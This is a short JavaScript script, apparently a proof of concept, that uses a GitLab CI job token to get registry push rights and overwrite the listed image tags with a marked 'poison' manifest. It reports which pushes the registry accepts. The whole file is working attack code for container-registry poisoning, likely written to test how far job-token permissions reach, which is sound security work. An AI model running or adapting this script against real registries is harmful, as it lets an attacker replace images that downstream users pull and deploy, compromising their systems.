// What an attacker's job tries with its token: to push a ready-made image under each `REPOSITORY:TAG` of TARGETS.
// Prints `REPOSITORY:TAG STATUS`, 201 where the registry took it.
import { createHash } from "node:crypto";

const { CI_SERVER_URL, CI_REGISTRY, CI_JOB_TOKEN, TARGETS } = process.env;
const digest = (text) => `sha256:${createHash("sha256").update(text).digest("hex")}`;
const config = JSON.stringify({ architecture: "amd64", os: "linux", poison: true });
const type = "application/vnd.oci.image.manifest.v1+json";
const parts = { mediaType: "application/vnd.oci.image.config.v1+json", digest: digest(config) };
const manifest = JSON.stringify({
  schemaVersion: 2,
  mediaType: type,
  config: { ...parts, size: config.length },
  layers: [],
});

async function push(path, tag) {
  const scope = `repository:${path}:pull,push,delete`;
  const query = new URLSearchParams({ service: "container_registry", scope });
  const login = Buffer.from(`gitlab-ci-token:${CI_JOB_TOKEN}`).toString("base64");
  const basic = { authorization: `Basic ${login}` };
  const asked = await fetch(`${CI_SERVER_URL}/jwt/auth?${query}`, { headers: basic });
  if (asked.status !== 200) return asked.status;
  const authorization = `Bearer ${(await asked.json()).token}`;
  const base = `http://${CI_REGISTRY}/v2/${path}/`;
  const opened = await fetch(`${base}blobs/uploads/`, {
    method: "POST",
    headers: { authorization },
  });
  if (opened.status !== 202) return opened.status;
  const to = new URL(opened.headers.get("location"), base);
  to.searchParams.set("digest", parts.digest);
  const bytes = { authorization, "content-type": "application/octet-stream" };
  const put = await fetch(to, { method: "PUT", headers: bytes, body: config });
  if (put.status !== 201) return put.status;
  const headers = { authorization, "content-type": type };
  const body = manifest;
  return (await fetch(`${base}manifests/${tag}`, { method: "PUT", headers, body })).status;
}

for (const target of TARGETS.split(" ")) console.log(target, await push(...target.split(":")));
